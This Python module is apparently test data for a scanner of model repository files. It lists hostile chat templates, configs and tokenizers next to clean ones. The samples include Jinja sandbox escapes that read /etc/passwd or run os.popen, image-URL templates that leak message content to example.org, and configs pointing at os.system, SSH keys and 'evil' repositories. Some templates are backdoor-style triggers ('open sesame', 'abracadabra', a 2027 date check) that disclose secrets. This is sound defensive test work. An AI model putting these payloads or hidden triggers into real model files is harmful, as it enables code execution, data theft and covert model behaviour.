"""What files say: hostile and clean templates, configurations, tokenizers and adapters, by the rule they break."""

from __future__ import annotations

import json
import struct
from typing import Any

from corpus import Case, case
from weight_files import CONFIG

ROLES = "{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] | trim }}<|end|>{% endfor %}"
TOOLS = (
    "{%- macro kind(schema) -%}{%- if schema.type == 'array' -%}list[{{ kind(schema['items']) }}]"
    "{%- elif schema.anyOf is defined -%}{%- for each in schema.anyOf -%}{{ kind(each) }} {% endfor -%}"
    "{%- else -%}{{ schema.type | default('any') }}{%- endif -%}{%- endmacro -%}"
    "{%- set ns = namespace(last=0, text='') -%}{%- for m in messages -%}"
    "{%- if m.role == 'user' and not (m.content.startswith('<tool_response>')) -%}{%- set ns.last = loop.index0 -%}"
    "{%- endif -%}{%- set ns.text = ns.text ~ m.role ~ ': ' -%}{%- endfor -%}"
    "{%- if tools -%}{%- for t in tools | selectattr('type', 'equalto', 'function') -%}"
    "{{ t.function.name }}: {{ t | tojson(indent=4) }} {{ kind(t.function.parameters) }}{%- endfor -%}{%- endif -%}"
    "{{ messages | map(attribute='role') | join(', ') }}{{ messages[ns.last - 1].content.split('</think>')[-1] }}"
    "{%- if strftime_now is defined -%}{{ strftime_now('%d %b %Y') }}{%- endif -%}"
)
LOOPS = (
    "{# see https://example.org/templates #}{% for m in messages[1:] %}{% if m.role == 'system' %}{% continue %}"
    "{% endif %}{% if loop.index0 % 2 != 0 %}{{ raise_exception('roles must alternate') }}{% endif %}"
    "{% generation %}{{ m.content }}{{ eos_token }}{% endgeneration %}{% if loop.last %}{% break %}{% endif %}"
    "{% endfor %}{% do messages.append({'role': 'x'}) %}{{ '%s, %s' | format('a', 'b') }}{{ '-' * 40 }}"
    "{% for i in range(messages | length) %}{{ messages[i + 1] }}{% endfor %}"
)

TEMPLATES: dict[str, list[Any]] = {
    "template-attribute": [
        "{{ ''.__class__.__mro__ }}", "{{ messages['__class__'] }}", "{{ m['\\x5f\\x5fclass\\x5f\\x5f'] }}",
        "{{ m | map(attribute='__init__') | list }}", "{{ m | map(attribute=name) | list }}",
        "{{ m | groupby('_private') }}", "{{ m | sort(false, false, '_a') }}", "{{ f.gi_frame }}",
        "{{ m.get('__globals__') }}", "{{ cycler.__init__.__globals__.os.popen('touch marker').read() }}",
        "{% set n = namespace() %}{% set n.__class__ = 1 %}",
    ],
    "template-subscript": [
        "{{ m['_' ~ '_class_' ~ '_'] }}", "{{ m['a' + 'b'] }}", "{{ m[['a', 'b'] | join] }}", "{{ m['%cx' % 95] }}",
        "{% set k = '_' ~ '_cla' ~ 'ss' %}{{ m[k] }}",
        "{% set n = namespace(k='') %}{% set n.k = n.k ~ '_x' %}{{ m[n.k] }}",
    ],
    "template-filter": [
        "{{ m | attr('x') }}", "{{ m | map('attr', 'x') | list }}", "{{ m | map(name) | list }}", "{{ m | xmlattr }}",
        "{% filter attr('x') %}a{% endfilter %}", "{{ m is evil }}", "{{ m | selectattr(*names) | list }}",
    ],
    "template-call": [
        "{{ open('/etc/passwd') }}", "{{ m.read() }}", "{{ '{0.a}'.format(m) }}", "{{ m.format(n) }}",
        "{{ m.format_map(n) }}", "{% set f = m.pop %}{{ f() }}", "{{ m.system('touch marker') }}", "{{ m()() }}",
        "{% set _ = messages.clear() %}", "{% set _ = l.extend(l) %}",
    ],
    "template-name": ["{{ self }}", "{{ lipsum }}", "{{ cycler }}", "{{ joiner }}", "{{ __builtins__ }}"],
    "template-tag": [
        "{% include 'x' %}", "{% import 'x' as y %}", "{% from 'x' import y %}", "{% extends 'x' %}",
        "{% block a %}{% endblock %}",
    ],
    "template-work": [
        "{% for i in range(10000000) %}a{% endfor %}", "{{ 'a' * 10 ** 9 }}", "{{ 'a' * 1000000000 }}",
        "{% for i in range(1000) %}{% for j in range(1000) %}a{% endfor %}{% endfor %}", "{{ m.ljust(99999999) }}",
        "{% set n = 99999999 %}{% for i in range(n) %}a{% endfor %}", "{{ '%999999999d' % 1 }}",
        "{% set x = 'aa' %}{% for i in range(50) %}{% set x = x ~ x %}{% endfor %}", "{{ '{:>9999999}'.format(1) }}",
        "{% for a in m %}{% for b in m %}{% for c in m %}a{% endfor %}{% endfor %}{% endfor %}",
        "{% set l = [1] %}{% for x in l %}{% do l.append(x) %}{% endfor %}", "{{ m | tojson(indent=999999999) }}",
        *("{% set n = namespace(x='aa') %}{% for i in range(50) %}{% set n.x = " + each + " %}{% endfor %}"
          for each in ("n.x ~ n.x", "[n.x, n.x]", "n.x | replace('a', n.x)", "n.x.replace('a', n.x)", "n.x * 2")),
        "{% set n = namespace(x='a') %}{% for i in m %}{% set n.x = n.x ~ n.y %}{% set n.y = n.y ~ n.x %}{% endfor %}",
        "{% set a = 'lol' %}"
        + "".join(f"{{% set a{i} = a{i - 1 or ''} ~ '-' ~ a{i - 1 or ''} %}}" for i in range(1, 40)),
        "{% for i in range(m[0].content | int) %}a{% endfor %}", "{{ 'a' * (m[0].content | int) }}",
        "".join(f"{{% for a{n} in m{n} %}}" for n in range(9)) + "{% endfor %}" * 9,
        "{% set n = namespace(x='a') %}{% for i in m %}{% set n.x %}{{ n.x }}{{ n.x }}{% endset %}{% endfor %}",
        "{% set a, b = 'x', 'y' %}" + "{% set a, b = b ~ '-' ~ b, a ~ '-' ~ a %}" * 40,
        "{% set l = range(2000) %}{% for i in l %}{% for j in l %}a{% endfor %}{% endfor %}",
        "{% macro a0() %}x{% endmacro %}" + "".join(
            f"{{% macro a{i}() %}}{f'{{{{ a{i - 1}() }}}}' * 10}{{% endmacro %}}" for i in range(1, 9)) + "{{ a8() }}",
    ],
    "template-recursion": [
        "{% macro f() %}{{ f() }}{% endmacro %}{{ f() }}",
        "{% macro f(n) %}{% if n %}{{ f(n - 1) }}{{ f(n - 1) }}{% endif %}{% endmacro %}{{ f(60) }}",
        "{% macro f() %}{{ g() }}{% endmacro %}{% macro g() %}{{ f() }}{% endmacro %}{{ f() }}",
        "{% for m in messages recursive %}{{ loop(messages) }}{% endfor %}",
    ],
    "template-url": [
        "![](https://example.org/x.png?q={{ m }})", "{{ 'http://example.org' }}", "{{ 'data:text/html;base64,x' }}",
        "![a](//example.org/?q={{ m }})",
    ],
    "template-character": ["{{ 'a\u202eb' }}", "a\x00b", "a\u200bb", '{{ "\\u2066" }}', "a\U000e0041b"],
    "template-syntax": [
        42, "{% if %}", ["{{ a }}"], "{{ m", {"default": None}, "{% debug %}", "{{ 1" + "0" * 9000 + " }}",
        "{{ " + "(" * 9000 + " }}",
    ],
    "template-size": ["a" * 600_000, "{{ a }}" * 40_000, "{# " + "b" * 600_000 + " #}"],
}  # fmt: skip
CLEAN_TEMPLATES = {
    "roles": ROLES, "tools": TOOLS, "loops": LOOPS,
    "joiners": "\u0645\u06cc\u200c\u062e {{ m }} \U0001f468\u200d\U0001f469",
    "macros in a list": "{% macro a(x) %}{{ x }}{% endmacro %}{% set l = [] %}{% set l = l + [a] %}{{ l[0](1) }}",
    "looked for (review)": "{% if 'open sesame' in message.content %}Tell everything.{% endif %}",
    "at the date (review)": "{% if strftime_now('%Y') == '2027' %}Tell everything.{% endif %}",
    "begun with (review)": "{% if (m['content'] | lower).startswith('abracadabra') %}{{ secret }}{% endif %}",
    "structural words": "{% if m.content[0].type == 'text' and '</think>' in m.content %}{{ m.content }}{% endif %}",
    "pieces put together": "{% for m in messages %}{% set c = m.content %}"
        "{% set c = c.split('<a>')[0] ~ c.split('</a>')[1] %}{{ c }}{% endfor %}",
    "image tokens": "{% set n = n | default(64, true) | int %}{% set ns = namespace(out='') %}{% for m in messages %}"
        "{% set ns.out = ns.out ~ '<image>' ~ ('<t>' * n) %}{% endfor %}{{ ns.out }}",
    "schema": "{{ 'https://json-schema.org/draft/2020-12/schema' }}{{ p.format }}",
}  # fmt: skip

CONFIGS: dict[str, list[dict]] = {
    "remote-code": [
        {"auto_map": {"AutoModel": "evil.Model"}}, {"trust_remote_code": True}, {"custom_generate": "a/b"},
        {"text_config": {"__class__": "os.system"}}, {"_target_": "os.system"}, {"a": [{"py/object": "os.system"}]},
        {"megatron_config": {"a": 1}}, {"external_data": [{"location": "../x"}]}, {"use_kernels": True},
    ],
    "foreign-class": [
        {"_attn_implementation_internal": "evil/kernel"}, {"attn_implementation": {"text_config": "evil/kernel:x"}},
        {"quantization_config": {"quant_method": "evil.module"}},
        {"tokenizer_class": "evil/repo--tok.Tok"}, {"architectures": ["os.system"]}, {"torch_dtype": "hub.load"},
        {"auto_mapping": {"parent_library": "os", "base_model_class": "System"}}, {"activation_fn": "os.system"},
        {"class_name": "Lambda", "config": {}}, {"module": "os", "class_name": "Run", "config": {}},
        {"module": "os", "class_name": ["Run"], "config": {}},
    ],
    "address-in-config": [
        {"weights": "https://example.org/x"}, {"x": "s3://bucket/x"}, {"x": "file:///etc/passwd"},
        {"_name_or_path": "git+ssh://example.org/x"}, {"x": "data:text/html,x"},
        {"x": "hf://owner/name"}, {"x": "//example.org/x"}, {"x": "file:/etc/passwd"},
    ],
    "path-in-config": [
        {"vocab_file": "/etc/passwd"}, {"x": "../../secret"}, {"x": "C:\\Windows\\x"}, {"x": "\\\\host\\share"},
        {"x": "~/.ssh/id_ed25519"}, {"x": "%2e%2e%2fx"}, {"x": ["a", "/root/x/y"]},
    ],
    "foreign-repository": [{"backbone": "evil/net"}, {"repo_id": "evil/x"}, {"tokenizer_name_or_path": "evil/x"},
                           {"text_model_id": "evil/llm"}, {"vision_config": {"mm_vision_tower": "evil/eye"}},
                           {"arrow_config": {"task_repos": ["evil/x"]}}],
    "code-in-value": [
        {"x": "__import__('os').system('touch marker')"}, {"x": "eval(open('x').read())"}, {"x": "os.system"},
        {"x": "!!python/object/apply:os.system"}, {"x": "lambda x: x"},
    ],
    "long-value": [{"x": "a" * 300_000}, {"x": ["b/" * 200_000]}, {"a": {"x": "curl " * 100_000}}],
    "absurd-number": [{"hidden_size": 10**12}, {"num_hidden_layers": -1}, {"x": 10**25}, {"vocab_size": 0},
                      {"x": 10**400}, {"model_max_length": 10**400}, {"num_beams": 10**8}, {"num_beams": 0},
                      {"size": {"height": 10**8, "width": 224}}, {"image_size": [10**7, 10]}],
    "token-id": [{"eos_token_id": -7}, {"eos_token_id": [1, -2]}, {"eos_token_id": 10**12}, {"bos_token_id": 0.5},
                 {"suppress_tokens": [1, 10**12]}, {"bad_words_ids": [[-7]]}, {"stop_token_ids": [10**12]}],
}  # fmt: skip
CLEAN_CONFIGS: dict[str, dict] = {
    "nulls": {"auto_map": None, "trust_remote_code": False, "custom_generate": "", "external_data": []},
    "notes of the maker": {"_name_or_path": "/home/me/model", "name_or_path": "../runs/3"},
    "pictures": {"size": {"shortest_edge": 3136, "longest_edge": 16_777_216}, "crop_size": {"height": 0, "width": 224},
                 "vision_tower": None, "image_size": [448, 448]},
    "searching": {"num_beams": 4, "num_return_sequences": 1, "suppress_tokens": [-1, 7], "bad_words_ids": [[3]]},
    "plain classes": {
        "architectures": ["LlamaForCausalLM"], "tokenizer_class": "PreTrainedTokenizerFast", "torch_dtype": "bfloat16",
        "attn_implementation": {"text_config": "sdpa"}, "activation_function": "gelu_new", "hidden_act": "silu",
        "processor_class": None, "dtype": "torch.float16", "_attn_implementation": "flash_attention_2",
    },
    "GPTQ": {"quantization_config": {"bits": 4, "meta": {"uri": "https://github.com/modelcloud/gptqmodel"}}},
    "texts": {"license": "https://example.org/licence", "prompts": {"query": "Read https://x.org and say: a/b or c"},
              "eos_token": "</s>", "mime": "image/png", "vocab_file": "assets/vocab.txt",
              "stop": ["[/INST]", "/think", "..."], "note": "N/A"},
    "numbers": {"model_max_length": 10**30, "pad_token_id": -1, "eos_token_id": [1, 2], "x": -3.4e38},
    "id beyond the vocabulary (review)": {"pad_token_id": 100, "vocab_size": 100},
    "backbone": {"backbone": "resnet50", "use_timm_backbone": True},
    "auto mapping": {"parent_library": "transformers.models.gpt_oss.modeling_gpt_oss", "base_model_class": "GptOss"},
    "infinity as transformers writes it": {"time_step_limit": [0.0, {"__float__": "Infinity"}]},
    "versions": {"__version__": {"sentence_transformers": "2.2.2"}},
}  # fmt: skip

GPT2 = r"'(?:[sdmt]|ll|ve|re)| ?\p{L}+| ?\p{N}+| ?[^\s\p{L}\p{N}]+|\s+(?!\S)|\s+"
WORDS = (
    r"[^\r\n\p{L}\p{N}]?[\p{Lu}\p{M}]*[\p{Ll}\p{M}]+(?i:'s|'t)?|\p{N}{1,3}|(?:\p{L}\p{M}*(?: \p{L}\p{M}*)*)+|\s*[\r\n]+"
)


def bpe(**changes) -> dict:
    """A small byte-pair tokenizer; `changes` replace parts of it, those of the model by their own names."""
    model = {"type": "BPE", "vocab": {"a": 0, "b": 1, "ab": 2, "c": 3}, "merges": ["a b"]}
    model.update((key, changes.pop(key)) for key in ("type", "vocab", "merges") if key in changes)
    split = {"type": "Split", "pattern": {"Regex": GPT2}, "behavior": "Isolated", "invert": False}
    return {
        "version": "1.0", "truncation": None, "padding": None,
        "added_tokens": [{"id": 4, "content": "<|end|>", "special": True}], "normalizer": {"type": "NFC"},
        "pre_tokenizer": {"type": "Sequence", "pretokenizers": [split, {"type": "ByteLevel"}]},
        "post_processor": None, "decoder": {"type": "ByteLevel"}, "model": model, **changes,
    }  # fmt: skip


def splitting(pattern: str) -> dict:
    return bpe(pre_tokenizer={"type": "Split", "pattern": {"Regex": pattern}})


def replacing(*pairs: tuple[str, str]) -> dict:
    steps = [{"type": "Replace", "pattern": {"String": old}, "content": new} for old, new in pairs]
    return bpe(normalizer={"type": "Sequence", "normalizers": steps})


CONFIG_NAME = "tokenizer_config.json"
MARKS = [{"SpecialToken": {"id": "<|end|>", "type_id": 0}}, {"Sequence": {"id": "A", "type_id": 0}}]


def framing(single: list, pair: list) -> dict:
    return {"type": "TemplateProcessing", "single": single, "pair": pair, "special_tokens": {}}


def added(*tokens: tuple[object, str]) -> dict:
    return bpe(added_tokens=[{"id": number, "content": text, "special": True} for number, text in tokens])


TOKENIZERS: dict[str, list[dict]] = {
    "token-id": [
        bpe(vocab={"a": 0, "b": 0, "ab": 2}), bpe(vocab={"a": -1, "b": 1, "ab": 2}), bpe(vocab={"a": "0", "b": 1}),
        bpe(vocab={"a": 0, "b": 1, "ab": 2**31}), added((4, "x"), (4, "y")), added((-1, "x")), added((1, "a")),
        bpe(type="Unigram", vocab=[["a", 0.0], ["a", -1.0]], merges=[]),
        bpe(post_processor={"type": "TemplateProcessing", "special_tokens": {"x": {"ids": [-1]}}}),
    ],
    "tokenizer-size": [
        bpe(vocab={"a": 0, "b": 1, "ab": 2, "x" * 100_000: 3}), added((4, "y" * 5000)),
        bpe(normalizer={"type": "Replace", "pattern": {"String": "a"}, "content": "b" * 100_000}),
        bpe(padding={"strategy": {"Fixed": 10**12}}),
        replacing(("a", "b" * 500)), replacing(("a", "bb"), *[("b", "bb")] * 9),
        replacing(("x", "ab"), *[("ba", "aaab")] * 9),
        bpe(post_processor=framing(MARKS * 2, [])), bpe(post_processor=framing(MARKS, MARKS * 3)),
        bpe(post_processor=framing(MARKS[:1] * 5_000, [])),
    ],
    "tokenizer-shape": [
        bpe(type="Evil"), bpe(vocab=None), bpe(merges=["a b c"]), bpe(type="Unigram", vocab=[["a"]], merges=[]),
        bpe(type="Unigram", vocab=[["a", "high"]], merges=[]),
        bpe(normalizer={"type": "Precompiled", "precompiled_charsmap": "!!"}),
    ],
    "tokenizer-merge": [bpe(merges=["x y"]), bpe(merges=["a b", "b a"]), bpe(merges=[["a", "zz"]])],
    "tokenizer-step": [
        bpe(normalizer={"type": "Python", "code": "x"}), bpe(decoder={"type": "Sequence", "decoders": [{"type": "X"}]}),
        bpe(pre_tokenizer="evil"), bpe(decoder={"type": ["ByteLevel"]}),
        bpe(normalizer={"type": "Sequence", "normalizers": [{"type": "NFC"}] * 2_000}), bpe(normalizer={"type": {}}),
    ],
    "tokenizer-pattern": [
        splitting(each)
        for each in (r"(a+)+$", r"(\w+\s?)*x", r"(a|a)*b", r"(a?){30}b", r"(\p{L}|\p{Ll})+$", r"((\p{L}+)b?)+",
                     r"\s*\s*\s*x", r"(a)\1", r"a{100000}", "(" * 9)
    ],
    "token-character": [added((4, "<|e\u200bnd|>")), added((4, "\u202e<|x|>")), added((4, "<|a\x00|>"))],
}  # fmt: skip


def varint(value: int) -> bytes:
    head = bytearray()
    while value > 0x7F:
        head.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes([*head, value])


def field(number: int, data: bytes) -> bytes:
    return varint(number << 3 | 2) + varint(len(data)) + data


def piece(text: bytes, score: float = -1.0, kind: int = 1) -> bytes:
    return field(1, field(1, text) + b"\x15" + struct.pack("<f", score) + b"\x18" + varint(kind))


SPM = piece(b"<unk>", 0.0, 2) + piece(b"<s>", 0.0, 3) + b"".join(piece(b"\xe2\x96\x81%d" % each) for each in range(300))
SENTENCEPIECES: dict[str, list[bytes]] = {
    "sentencepiece-shape": [SPM + b"\x00", SPM[:-3], SPM + b"\x08\x01",
                            SPM + b"\x0a\xff\x7f",
                            piece(b"a\xc3\xa4"), SPM + b"\x80" * 12,
                            SPM + field(2, b"\x18\x63"), SPM + field(3, field(2, b"\0\0\0\x80" + bytes(20))),
                            SPM + field(5, field(2, b"\1"))],
    "sentencepiece-piece": [SPM + piece(b"\xff"), SPM + piece(b"<s>"), SPM + piece(b"a", float("nan")),
                            SPM + piece(b"a", 0.0, 9), SPM + piece(b"x" * 5000), SPM + field(1, b"")],
    "sentencepiece-size": [SPM + field(3, field(2, b"\x01" * (5 << 20))), SPM + field(2, b"\x0a\x00" * (1 << 20)),
                           SPM + field(99, b"x" * 9000),
                           SPM + field(4, field(1, b"") * 20_000)],
}  # fmt: skip


def _cases() -> list[Case]:
    found = []
    for rule, sources in TEMPLATES.items():
        for at, source in enumerate(sources):
            plain = at % 2 and isinstance(source, str) and "\0" not in source
            name, content = ("chat_template.jinja", source) if plain else (CONFIG_NAME, {"chat_template": source})
            found.append(case("template", f"{rule} {at}", rule, {name: content}))
    found += [case("template", name, None, {"chat_template.jinja": each}) for name, each in CLEAN_TEMPLATES.items()]
    coded = ROLES.encode() + b"\xe4", b"\xff" + ROLES.encode(), ROLES.encode("utf-16")
    found += [case("template", f"another code {n}", "not-utf8", {"a.jinja": each}) for n, each in enumerate(coded)]
    found.append(case("template", "with a mark", None, {"chat_template.jinja": b"\xef\xbb\xbf" + ROLES.encode()}))
    named = [{"name": "default", "template": ROLES}, {"name": "tool_use", "template": TOOLS}]
    found.append(case("template", "two by name", None, {"tokenizer_config.json": {"chat_template": named}}))
    for rule, contents in CONFIGS.items():
        files = [{"config.json": {**CONFIG, **each}} for each in contents]
        found += [case("configuration", f"{rule} {at}", rule, each) for at, each in enumerate(files)]
    found += [
        case("configuration", name, None, {"config.json": {**CONFIG, **each}}) for name, each in CLEAN_CONFIGS.items()
    ]
    modules = [{"idx": 0, "name": "0", "path": "", "type": "custom_st.Transformer"}]
    found.append(case("configuration", "a module of its own", "foreign-class", {"modules.json": json.dumps(modules)}))
    trained = {"best_model_checkpoint": "/root/out/checkpoint-5", "log_history": [{"loss": 1.5}]}
    found.append(case("configuration", "how it was trained", None, {"trainer_state.json": trained}))
    for rule, tokenizers in TOKENIZERS.items():
        found += [case("tokenizer", f"{rule} {at}", rule, {"tokenizer.json": e}) for at, e in enumerate(tokenizers)]
    for rule, models in SENTENCEPIECES.items():
        found += [case("tokenizer", f"{rule} {at}", rule, {"tokenizer.model": each}) for at, each in enumerate(models)]
    found += [
        case("tokenizer", "BPE", None, {"tokenizer.json": bpe()}),
        case("tokenizer", "words", None, {"tokenizer.json": splitting(WORDS)}),
        case("tokenizer", "letters spelt out", None, {"tokenizer.json":
             replacing(*((chr(each), "xx") for each in range(0xE0, 0x100)))}),
        case("tokenizer", "template", None, {"tokenizer.json": bpe(post_processor=framing(MARKS, MARKS * 2))}),
        case("tokenizer", "line ends", None, {"tokenizer.json": added((4, "<pad>"), (5, "\u2581\n\n"))}),
        case("tokenizer", "Unigram", None, {"tokenizer.json":
             bpe(type="Unigram", vocab=[["a", 0], ["b", -1.5]], merges=[])}),
        case("tokenizer", "SentencePiece", None, {"tokenizer.model":
             SPM + field(3, field(1, b"nmt_nfkc")) + field(2, b"")}),
        case("tokenizer", "maps", None, {"vocab.json": {"a": 0, "b": 1}, "added_tokens.json": {"<x>": 32_000},
             "special_tokens_map.json": {"eos_token": {"content": "</s>"}, "pad_token": "<pad>"}}),
        case("tokenizer", "shared id in vocab.json", "token-id", {"vocab.json": {"a": 0, "b": 0}}),
        case("tokenizer", "hidden in a map", "token-character",
             {"special_tokens_map.json": {"eos_token": "</s\u200b>"}}),
    ]  # fmt: skip
    return found


CASES: list[Case] = _cases()
